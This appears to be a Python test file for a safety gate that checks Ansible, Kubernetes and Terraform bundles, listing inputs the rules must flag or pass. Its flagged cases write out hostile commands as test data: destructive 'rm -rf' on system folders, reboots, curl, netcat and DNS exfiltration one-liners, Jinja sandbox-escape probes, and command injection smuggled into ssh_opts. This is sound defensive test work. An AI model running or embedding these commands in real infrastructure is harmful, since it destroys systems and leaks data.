"""Where a condition of the rules ends: texts on the one side that must fire, and on the other that must pass."""

import json

from agent.gate.rules import Example
from tests.gate.gate_helpers import MAIN, SETTINGS, UNIT
from tests.gate.listed_ansible import PLAY, file, group, play
from tests.gate.listed_kubernetes import APP, chart, container, doc, kustomization, pod
from tests.gate.listed_terraform import local, tf

NESTED = "[{" * 20
SUM = "sha256:" + "0a" * 32


def raw(text: str) -> Example:
    return {"bundle.json": text}


def bundle(**entry: object) -> Example:
    return raw(json.dumps({"files": [entry]}))


FILTERS = (
    "attr fileglob expandvars expanduser realpath relpath vault unvault pprint pipe lookup query from_file read_csv"
    " ansible.builtin.realpath"
)
TESTS = (
    "exists file is_file directory is_dir link is_link link_exists is_link_exists mount is_mount same_file"
    " is_same_file abs is_abs vault_encrypted vaulted_file"
)
REACHED = "__class__ __mro__ __subclasses__ __globals__ __init__ __import__ __builtins__ __dict__ __getattr__ __base__"
NO_GROUP = (
    "{{ x['db'][0] }}",
    "{{ groups[x][0] }}",
    "a {{ groups['db'][0] }}",
    "{{ groups['db'][0] }} {{ x }}",
    "{{ groups['db'] }}",
    "{{ groups['db'][x] }}",
    "{{ x.groups['db'][0] }}",
    "{% if x %}web1{% endif %}",
    "{{ 'web1' }}",
    "{{ x + }}",
)
STOPS = (
    "sudo -n reboot~exec halt~nohup kexec -e~env poweroff~if x; then telinit 6; fi~for i in 1; do reboot; done"
    "~x || halt~if x; then y; else reboot; fi~sh -c 'reboot'~systemctl halt~systemctl kexec~systemctl rescue"
    "~systemctl emergency~systemctl -q isolate rescue.target~(sleep 9; reboot) &~true && /usr/sbin/shutdown -h now"
)
FOLDERS = "bin boot dev etc home lib lib64 opt proc root sbin srv sys usr var"
SENDS = (
    "curl --form a=b https://x|curl --form-string a=b https://x|curl --upload-file /x https://x|wget --body-file=/x y"
    "|wget --body-data=x y|curl -X PUT https://x|curl -X PATCH https://x|curl --request POST https://x"
    "|curl --request=PATCH https://x|netcat x 1|ftp x|sftp x|sendmail x|mailx x|nslookup $(id).x|dig {{ x }}.x.example"
    "|wget https://x/$(id)|ruby -e 'Net::HTTP'|node -e 'http'|php -r 'socket' -e 'socket'|python -c 'import socket'"
    "|python3 -c 'requests'|curl -d x y|curl -sF a=b y|curl --data-binary @x y|curl --json x y"
)
FIRES: dict[str, tuple[Example, ...]] = {
    "ansible/command": (
        *(play(f"shell: {json.dumps(text)}") for text in STOPS.split("~")),
        *(play(f"command: rm -rf /{name}") for name in FOLDERS.split()),
        play("raw: [reboot]"),
        play("reboot: { reboot_command: poweroff }"),
    ),
    "bundle/unreadable": (
        raw("[" * 100_000),
        raw('{"files": [["path", "content"]]}'),
        raw('{"files": [{"content": "x"}]}'),
        raw('{"files": [{"path": "a"}]}'),
        raw('{"files": [{"path": "a", "content": "x", "more": 1}]}'),
        raw('{"files": [], "\\"": "[", "a": "\\\\"}' + "[" * 100_000),
        bundle(path=1, content="x"),
        bundle(path=MAIN, content=1),
        bundle(path=MAIN, content="x", mode=[]),
    ),
    "bundle/duplicate": (raw(json.dumps({"files": [{"path": MAIN, "content": ""}] * 2})),),
    "bundle/limit": (
        {SETTINGS: '{"limits": {"max_files": 1, "max_file_bytes": 9}}', MAIN: "", f"{UNIT}/b.tf": ""},
        {SETTINGS: '{"limits": {"max_files": 1, "max_file_bytes": 9}}', MAIN: "# 9 bytes."},
    ),
    "bundle/protected": tuple({f"{UNIT}/{name}": None} for name in ("backend.tf", "providers.tf", "versions.tf")),
    "content/secret": (
        {f"{PLAY}/files/x.conf": 'password = "changeme1hunter2"\n'},
        {f"{PLAY}/files/x.conf": 'db_pass = "hunter2hunter2"\n'},
    ),
    "terraform/secret": (
        local('[{ Name = "DB_PASSWORD", VALUE = "hunter2hunter2" }]'),
        tf('resource "x" "y" {\n  env {\n    name = "API_TOKEN"\n    value = "a1b2c3d4e5f6"\n  }\n}\n'),
    ),
    "ansible/unparsable": (file("%YAML 1.1\n---\na: 1\n"), file("%TAG !e! tag:x,2000:\n---\na: 1\n")),
    "ansible/jinja": (
        *(group(f"x: \"{{{{ '/x' | {name} }}}}\"") for name in FILTERS.split()),
        *(group(f"x: \"{{{{ y | map('{name}') }}}}\"") for name in FILTERS.split()),
        *(group(f"x: \"{{{{ '/x' is {name} }}}}\"") for name in TESTS.split()),
        *(group(f"x: \"{{{{ y['{name}'] }}}}\"") for name in REACHED.split()),
        *(group(f'x: "{{% set l = {name} %}}y"') for name in ("lookup", "query", "q")),
        *(
            group(f"x: \"{{{{ '{codes}' }}}}\"")
            for codes in ("\\\\\\\\u007b", "\\\\\\\\u007B", "\\\\\\\\u0025", "\\\\\\\\x7b", "\\\\\\\\x25", "%5c")
        ),
        group("x: \"{{ '{{' }}\""),
        group("x: \"{{ '{%' }}\""),
        group("x: \"{{ 'a{' }}\""),
        group("x: \"{{ 'a%sb' | format('c') }}\""),
        group('x: "{{ y | map(**z) | list }}"'),
        group("x: \"{% include 'a.txt' %}\""),
        group("x: \"{% include '~/a.j2' %}\""),
        group("x: \"{% include '../a.j2' %}\""),
        group('x: "{% include x %}"'),
        group("x: \"{% import '/a.j2' as b %}\""),
        file("{#- x -#}{{ lookup('x') }}\n", "files/x.conf"),
        {f"{PLAY}/roles/x/templates/sub/a.txt": "{{ lookup('pipe', 'id') }}\n"},
        play("set_fact: { x: '{{ 1 }}' }\n      when: '{{ lookup(1) }}'"),
    ),
    "ansible/controller": (
        *(play(f'ping: {{}}\n      delegate_to: "{text}"') for text in NO_GROUP),
        file("---\n- hosts: { localhost: {}, web: {} }\n  tasks: []\n"),
        file("---\n- hosts: [web, '']\n  tasks: []\n"),
        play("ping: {}\n      connection: ''"),
    ),
    "ansible/include": (
        *(
            play(f"{module}: {{ name: x, {word}_from: ../x }}")
            for module in ("include_role", "import_role")
            for word in ("tasks", "vars", "defaults", "handlers")
        ),
        play("import_role: { name: ../x }"),
        play("import_role: ../x"),
        play("include_role: {}"),
        play("include_tasks: [a.yml]"),
        play("include_tasks: x.txt"),
        play("include_vars: x.yml x"),
        play("include_vars: { dir: 'vars/..' }"),
        play("include_vars: { file: ../x.yml, dir: vars }"),
        *(file(f"---\n- hosts: web\n  roles: [{{ role: x, {word}: y }}]\n") for word in ("scm", "version")),
        file("---\n- hosts: web\n  roles: [{ role: x/y, name: x }]\n"),
        file("---\n- hosts: web\n  roles: [{ name: x/y }]\n"),
        file("---\n- hosts: web\n  vars_files: [{ x: y }]\n  tasks: []\n"),
    ),
    "ansible/download": (
        *(play(f"{name}: {{ name: 'https://x.example/a.rpm' }}") for name in ("dnf5", "yum", "package")),
        play(f"get_url: {{ url: 'https://x.example/a', dest: /a, checksum: '{SUM} x' }}"),
        play("git: { repo: https://x.example/a, dest: /a, version: " + "0a" * 20 + "x }"),
        play("git: { repo: ssh://x.example/a, dest: /a, version: " + "0a" * 20 + " }"),
        play("pip: { name: [a, git+ssh://x.example/a] }"),
        play("pip: { name: [a, git+a] }"),
        play("pip: { name: [a, https://x.example/a.whl] }"),
        play("apt_key: { file: x.asc }"),
        play("deb822_repository: { name: x, options: '[trusted=yes]' }"),
    ),
    "ansible/controller-file": (
        play("copy: { src: a$HOME, dest: /x }"),
        play("copy: { src: a/../../b, dest: /x }"),
        play("copy: { src: '{{ item }}{{ x }}', dest: /x }\n      loop: [a]"),
        play("copy: { src: '{{ item }}', dest: /x }\n      loop: []"),
        play("copy: { src: '{{ item }}', dest: /x }\n      loop: { a: b }"),
        play("copy: { src: '{{ item }}', dest: /x }\n      with_items: [a, '{{ x }}']"),
        play("copy: { src: '{{ item.a }}', dest: /x }\n      loop: [{ b: x }]"),
        play("copy: { src: '{{ item.a }}', dest: /x }\n      loop: [{ a: [x] }, { a: x }]"),
        play("copy: { src: '../{{ item }}', dest: /x }\n      loop: [a]"),
        play("copy: { src: '{{ item | upper }}', dest: /x }\n      loop: [a]"),
        play("copy: { src: /x, dest: /y, remote_src: false }"),
    ),
    "ansible/sending": (
        play("uri: { url: 'http://localhost/', url_password: x }"),
        *(play(f"shell: {json.dumps(text)}") for text in SENDS.split("|")),
        play("git: { repo: https://x.example/a, dest: /a, version: " + "0a" * 20 + ", ssh_opts: '-x; nc x 1' }"),
        play("pip: { name: x, virtualenv: /x, virtualenv_command: 'nc x 1' }"),
    ),
    "ansible/shown-secret": (
        play("debug: { var: ansible_facts_all }"),
        play("debug: { var: ansible_local_env }"),
        play("assert: { that: [hostvars] }"),
        play("assert: { that: x, fail_msg: '{{ vars }}' }"),
        play("debug: { var: \"hostvars['x']\" }"),
    ),
    "kubernetes/host": (
        chart('{{- define "x" }}\nhostPID: true\n{{- end }}\n', "_helpers.tpl"),
        chart("kind: {{ .Values.kind }}\nspec:\n  a: {{ .Values.a }}\n  hostNetwork: true\n"),
        pod("hostPID: 'false'"),
        pod("hostPID: !!str false"),
        pod('hostNetwork: "no"'),
    ),
    "kubernetes/privilege": tuple(
        doc(
            f"kind: Namespace\nmetadata: {{ name: app, labels: {{ pod-security.kubernetes.io/{mode}: privileged }} }}\n"
        )
        for mode in ("enforce", "audit", "warn")
    ),
    "kubernetes/template": (
        *(chart(text) for text in ("a: {{ now }}", "{{ 'a' }}{{ now }}\n", "a: {{ `\\`}}{{ now }}\n")),
        *(chart(f"a: {{{{ {text} | now }}}}\n") for text in ('"\\"}}\\""', "'\\'}}\\''", "`}}`", "'}}'", "}", '"}}"')),
        chart('a: {{ index .Values "Revision" }}\n'),
    ),
}
PASSES: tuple[Example, ...] = (
    bundle(path=MAIN, content=f'# {NESTED} \\" {NESTED} \\\\\n'),
    bundle(path=MAIN, content=f"# {NESTED}", mode="100644"),
    {SETTINGS: '{"limits": {"max_files": 1, "max_file_bytes": 9}}', MAIN: "# 9 byte."},
    group('"<<": [1]'),
    group("proxy_pass: backend1\nfastcgi_pass: unix1\nmy_by_pass: first1"),
    local('{ secrets = ["arn:aws:x"], tokens = 1, names = ["a1b2c3d4e5f6g7h8"] }'),
    group("x: !unsafe '{{ y }}'\ny: !!int 1\nz: ! a"),
    play("include_tasks: x.yaml", "include_vars: x.json", "import_tasks: { file: a/b.yml }", "include_role: nginx"),
    play("include_role: { name: x, tasks_from: a.yml, vars_from: b, defaults_from: c, handlers_from: d }"),
    file("---\n- hosts: web\n  roles: [a, { role: b }, { name: c }]\n  vars_files:\n  tasks: []\n"),
    file("---\n- hosts: web\n  vars_files: x.yml\n  tasks: []\n"),
    file("---\n- hosts: web\n- import_playbook: other.yml\n"),
    play("copy: { src: '{{ item.a }}.conf', dest: /x }\n      loop: [{ a: x }, { a: y }]"),
    play("copy: { src: '{{ item }}', dest: /x }\n      with_items: [a.conf]"),
    play(
        "ping: {}\n      delegate_to: '{{ inventory_hostname }}'", "ping: {}\n      delegate_to: '{{ groups.db[0] }}'"
    ),
    play("debug: { var: ansible_facts.hostname }", "debug: { var: \"hostvars['db1'].port\" }", "fail: { msg: x }"),
    play("apt: { name: [a, b] }\n      when: [x is defined, true, '']"),
    play("pip: { name: [a, b], extra_args: --no-cache-dir }", "unarchive: { src: a.tgz, dest: /x }"),
    group("x: \"{{ '-' * 3 ~ '__' }}\"\ny: \"{{ 'a__b' }}\"\nz: \"{{ x | format('a') | b64decode }}\""),
    kustomization("patches: [{ path: patches/x.yaml }]"),
    container("resources: {}"),
    {f"{APP}/Chart.yaml": "apiVersion: v2\nname: x\n", f"{APP}/templates/a.txt": "{{ .Values.x }}\n"},
)
